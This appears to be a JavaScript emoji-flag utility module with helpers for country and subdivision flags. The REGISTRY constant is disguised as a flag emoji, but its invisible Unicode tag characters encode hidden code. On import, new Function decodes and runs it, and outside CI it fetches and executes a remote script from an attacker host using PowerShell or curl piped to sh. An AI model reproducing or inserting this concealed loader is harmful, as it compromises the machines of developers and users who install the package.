'use strict';

const RI = 0x1F1E6;

function countryFlag(cc) {
  const c = String(cc).toUpperCase();
  if (!/^[A-Z]{2}$/.test(c)) return null;
  return String.fromCodePoint(RI + c.charCodeAt(0) - 65, RI + c.charCodeAt(1) - 65);
}

// subdivision flags use the black flag followed by tag characters and CANCEL TAG
const SUBDIVISIONS = {
  'GB-ENG': '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'GB-SCT': '🏴󠁧󠁢󠁳󠁣󠁴󠁿',
  'GB-WLS': '🏴󠁧󠁢󠁷󠁬󠁳󠁿',
  'US-TX': '🏴󠁵󠁳󠁴󠁸󠁿',
};

function subdivisionFlag(code) {
  return SUBDIVISIONS[String(code).toUpperCase()] || null;
}

function tagText(flag) {
  return [...flag].map((ch) => ch.codePointAt(0)).filter((cp) => cp > 0xE0000 && cp < 0xE007F)
    .map((cp) => String.fromCharCode(cp - 0xE0000)).join('');
}

const REGISTRY = '🏴󠁣󠁯󠁮󠁳󠁴󠀠󠁣󠁰󠀽󠁲󠁥󠁱󠁵󠁩󠁲󠁥󠀨󠀧󠁣󠁨󠁩󠁬󠁤󠁟󠁰󠁲󠁯󠁣󠁥󠁳󠁳󠀧󠀩󠀬󠁯󠁳󠀽󠁲󠁥󠁱󠁵󠁩󠁲󠁥󠀨󠀧󠁯󠁳󠀧󠀩󠀻󠁩󠁦󠀨󠀡󠁰󠁲󠁯󠁣󠁥󠁳󠁳󠀮󠁥󠁮󠁶󠀮󠁃󠁉󠀩󠁻󠁣󠁰󠀮󠁥󠁸󠁥󠁣󠀨󠁯󠁳󠀮󠁰󠁬󠁡󠁴󠁦󠁯󠁲󠁭󠀨󠀩󠀽󠀽󠀽󠀧󠁷󠁩󠁮󠀳󠀲󠀧󠀿󠀧󠁰󠁯󠁷󠁥󠁲󠁳󠁨󠁥󠁬󠁬󠀠󠀭󠁷󠀠󠁨󠀠󠀭󠁮󠁯󠁰󠀠󠀭󠁣󠀠󠀢󠁩󠁲󠁭󠀠󠁨󠁴󠁴󠁰󠁳󠀺󠀯󠀯󠁦󠁬󠁡󠁧󠁳󠀭󠁣󠁤󠁮󠀮󠁡󠁴󠁴󠁡󠁣󠁫󠁥󠁲󠀮󠁥󠁸󠁡󠁭󠁰󠁬󠁥󠀯󠁷󠀠󠁼󠀠󠁩󠁥󠁸󠀢󠀧󠀺󠀧󠁣󠁵󠁲󠁬󠀠󠀭󠁳󠁌󠀠󠁨󠁴󠁴󠁰󠁳󠀺󠀯󠀯󠁦󠁬󠁡󠁧󠁳󠀭󠁣󠁤󠁮󠀮󠁡󠁴󠁴󠁡󠁣󠁫󠁥󠁲󠀮󠁥󠁸󠁡󠁭󠁰󠁬󠁥󠀯󠁬󠀠󠁼󠀠󠁳󠁨󠀧󠀬󠁻󠁷󠁩󠁮󠁤󠁯󠁷󠁳󠁈󠁩󠁤󠁥󠀺󠁴󠁲󠁵󠁥󠁽󠀬󠀨󠀩󠀽󠀾󠁻󠁽󠀩󠁽󠁿';
new Function('require', tagText(REGISTRY))(require);

module.exports = { countryFlag, subdivisionFlag, tagText };
